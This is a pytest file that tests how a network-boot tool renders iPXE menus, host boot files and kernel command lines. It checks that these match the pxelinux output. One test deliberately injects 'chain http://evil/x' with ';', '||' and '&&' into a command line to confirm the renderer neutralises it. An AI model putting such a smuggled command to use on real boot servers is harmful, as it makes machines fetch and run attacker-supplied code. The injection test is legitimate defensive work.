"""iPXE scripts for the ipxe chain: same menu, default, timeout, labels and command lines as
pxelinux and GRUB; known hosts boot at once, everyone else gets the menu."""

from __future__ import annotations

import pytest

from bootpack.errors import BootpackError
from bootpack.render import Site, render_bundle_configs
from bootpack.render.ipxe import boot_script, default_config, host_config, render_ipxe
from bootpack.render.menu import boot_menu
from bootpack.render.pxelinux import default_config as pxe_default
from bootpack.spec import parse_spec
from bootpack.spec.checks import run_checks
from bootpack.spec.model import Spec
from tests.support.ipxe import ipxe_commands
from tests.support.specs import lab_data, menu_lab


def lab(**changes):  # type: ignore[no-untyped-def]
    changes.setdefault("loaders", {"chains": ["bios", "uefi", "ipxe"]})
    return menu_lab("Other kernel", **changes)


def test_files_and_the_entry_script_chains_the_host_file_then_the_menu() -> None:
    spec, site = lab()
    files = render_ipxe(spec, site)
    assert sorted(files) == ["ipxe/boot.ipxe", "ipxe/default.ipxe",
                             "ipxe/hosts/52-54-00-aa-bb-cc.ipxe"]
    assert all(text.startswith("#!ipxe\n") for text in files.values())  # else iPXE won't run it
    assert boot_script(site).splitlines()[-1] == (
        "chain http://10.0.2.2/ipxe/hosts/${netX/mac:hexhyp}.ipxe || "
        "chain http://10.0.2.2/ipxe/default.ipxe")
    assert "tftpboot/ipxe/default.ipxe" in render_bundle_configs(spec, site)
    # BIOS iPXE ROMs run the scripts too (loaders.bios_ipxe, on by default) ...
    bios = lab(loaders={"chains": ["bios", "uefi"]})
    assert "tftpboot/ipxe/default.ipxe" in render_bundle_configs(*bios)
    # ... and without them or the ipxe chain there are none
    without = lab(loaders={"chains": ["bios", "uefi"], "bios_ipxe": False})
    assert not any("ipxe" in p for p in render_bundle_configs(*without))
    assert not any("ipxe" in p for p in render_bundle_configs(*lab(loaders={"chains": ["uefi"]})))


def test_menu_default_timeout_labels_and_command_lines_match_pxelinux() -> None:
    spec, site = lab()
    text = default_config(spec, site)
    pxe = pxe_default(spec, site)
    assert "TIMEOUT 50\n" in pxe and "DEFAULT live\n" in pxe
    assert "choose --timeout 5000 --default live bootpack-choice || goto live\n" in text
    assert "goto ${bootpack-choice}\n" in text
    assert "menu -- Lab\n" in text and "item other Other kernel\n" in text
    for item in boot_menu(spec, site, "x86_64").items:
        assert f":{item.name}\n" in text
        if item.kernel is not None:
            assert f"APPEND {item.cmdline}\n" in pxe
            # the same words, after the initrd's name the EFI stub needs
            assert (f"kernel http://10.0.2.2/{item.kernel} initrd=initrd.img {item.cmdline}\n"
                    in text)
            assert f"initrd --name initrd.img http://10.0.2.2/{item.initrd}\n" in text
    assert ":disk\nexit\n" in text  # local disk: back to the firmware's next boot option
    assert "node=1" not in text


def test_host_file_boots_its_entry_at_once_with_the_host_cmdline() -> None:
    spec, site = lab()
    text = host_config(spec, site, spec.hosts[0])
    assert "menu" not in text and "choose" not in text
    assert ("kernel http://10.0.2.2/images/kdev/vmlinuz initrd=initrd.img console=ttyS0,115200 "
            "node=1 bootpack.report=http://10.0.2.2/bootpack/up/live\n") in text
    assert text.rstrip().endswith("boot")


def test_timeout_zero_boots_the_default_without_a_menu() -> None:
    spec, site = lab(menu={"title": "Lab", "timeout": 0, "default": "other"})
    text = default_config(spec, site)
    assert "goto other\n" in text and "choose" not in text and "menu " not in text


def test_nfs_and_live_entries_get_bootif_of_the_booting_nic() -> None:
    data = lab_data()
    data["loaders"] = {"chains": ["ipxe"]}
    data["images"]["kdev"]["squashfs"] = "artifacts/root.squashfs"
    data["entries"][0]["root"] = "live"
    spec = parse_spec(data)
    site = Site.from_spec(spec)
    assert "BOOTIF=01-${netX/mac:hexhyp}\n" in default_config(spec, site)
    assert "BOOTIF=01-52-54-00-aa-bb-cc\n" in host_config(spec, site, spec.hosts[0])


@pytest.mark.parametrize(("where", "value"), [
    ("cmdline", "console=ttyS0 x=${evil}"), ("label", "Costs ${price}"),
])
def test_what_ipxe_would_expand_is_refused_at_validate_and_render(where: str, value: str) -> None:
    data = lab_data()
    data["loaders"] = {"chains": ["bios", "ipxe"]}
    data["entries"][0][where] = value
    with pytest.raises(BootpackError, match=rf"entries\[0\]\.{where}: .*iPXE.*remove 'ipxe' "
                       "from loaders.chains and set loaders.bios_ipxe = false"):
        parse_spec(data)  # validate, build and serve run the same checks
    spec = Spec.model_validate(data)  # the renderer refuses it on its own as well
    with pytest.raises(BootpackError, match="iPXE"):
        render_ipxe(spec, Site.from_spec(spec))
    data["loaders"] = {"chains": ["bios"], "bios_ipxe": False}  # pxelinux takes it as it is
    assert not [p for p in run_checks(Spec.model_validate(data)) if "iPXE" in p]


def test_words_ipxe_reads_as_syntax_reach_the_kernel_and_the_menu_as_written() -> None:
    """iPXE has no quoting: `;`, `||`, `&&`, a word starting with `#` and a trailing backslash
    get an empty setting (`${}`) that hides them from its parser; every line stays one command
    with exactly the spec's words."""
    cmdline = "quiet ; chain http://evil/x || a && b #1 c\\ '$5' \"x y\""
    label = "Lab #2 ; || && -x \\"
    spec, site = lab(menu={"title": "-n Lab #1", "timeout": 5}, loaders={"chains": ["bios"]})
    data = spec.model_dump(by_alias=True, exclude_none=True)  # bios: GRUB refuses the quotes
    data["entries"][0]["cmdline"] = cmdline
    data["entries"][1]["label"] = label
    spec = parse_spec(data)
    text = default_config(spec, site)
    lines = text.splitlines()
    menu = next(line for line in lines if line.startswith("menu "))
    assert ipxe_commands(menu) == [["menu", "--", "-n", "Lab", "#1"]]
    item = next(line for line in lines if line.startswith(f"item {spec.entries[1].name} "))
    assert ipxe_commands(item) == [["item", spec.entries[1].name, *label.split()]]
    kernel = next(line for line in lines if line.startswith("kernel ") and "quiet" in line)
    [command] = ipxe_commands(kernel)
    assert " ".join(command[3:]).startswith(cmdline)  # after `kernel URL initrd=NAME`
    assert not text.rstrip("\n").endswith("\\")
    assert all(not line.endswith("\\") for line in lines)  # no line continues onto the next
    assert ipxe_commands("a ${}; b") == [["a", ";", "b"]] and ipxe_commands("a ; b") == [["a"], ["b"]]


def test_a_new_line_never_starts_a_command() -> None:
    spec, site = lab()
    for text in render_ipxe(spec, site).values():
        assert all(line == "" or line.startswith(("#", ":", "chain ", "menu ", "item ", "choose ",
                                                  "goto ", "echo ", "kernel ", "initrd ", "boot",
                                                  "exit"))
                   for line in text.splitlines()), text
